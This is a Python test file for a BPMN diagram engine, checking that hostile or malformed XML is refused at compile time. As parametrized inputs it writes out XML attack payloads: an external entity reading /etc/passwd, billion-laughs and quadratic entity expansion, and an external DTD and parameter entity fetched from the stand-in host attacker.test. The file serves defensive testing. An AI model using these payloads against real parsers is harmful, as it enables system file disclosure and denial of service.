"""Hostile and broken XML never reaches the engine."""

import pytest

from bpmn import engine
from bpmn.engine.xml import MAX_BYTES
from bpmn.errors import DiagramRejected, Problem
from tests.bpmn.engine.drawing import (
    bpmn,
    end,
    flows,
    start,
    user,
)

PLAIN = start() + user("work") + end() + flows("start > work > end")
GOOD = bpmn("case", PLAIN)


def refuse(files: dict[str, bytes]) -> tuple[Problem, ...]:
    with pytest.raises(DiagramRejected) as rejected:
        engine.compile_diagram(files)
    return rejected.value.problems


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
BILLION = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {name} "&{before};&{before};&{before};&{before};&{before};&{before};">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'


def _with_doctype(doctype: str, text: str) -> bytes:
    head, body = GOOD.decode().split("?>", 1)
    named = body.replace('name="work"', f'name="{text}"', 1)
    return f"{head}?>{doctype}{named}".encode()


@pytest.mark.parametrize(
    "data",
    [
        _with_doctype(ENTITY, "x"),
        _with_doctype(ENTITY, "&e;"),
        _with_doctype(BILLION, "&i;"),
        _with_doctype(QUADRATIC, "&a;" * 5_000),
        _with_doctype('<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">', "x"),
        _with_doctype('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x">%p;]>', "x"),
        GOOD + b" " * MAX_BYTES,
        b"",
        b"not xml",
        b"PK\x03\x04",
        GOOD[:-20],
        b"<a>" * 5_000 + b"</a>" * 5_000,
    ],
    ids=[
        "doctype",
        "external entity",
        "billion laughs",
        "quadratic",
        "external dtd",
        "parameter entity",
        "too large",
        "empty",
        "text",
        "zip",
        "cut off",
        "deep",
    ],
)
def test_hostile_or_broken_xml_is_refused(data: bytes) -> None:
    problems = refuse({"diagram.bpmn": data})

    assert all(problem.file == "diagram.bpmn" for problem in problems)
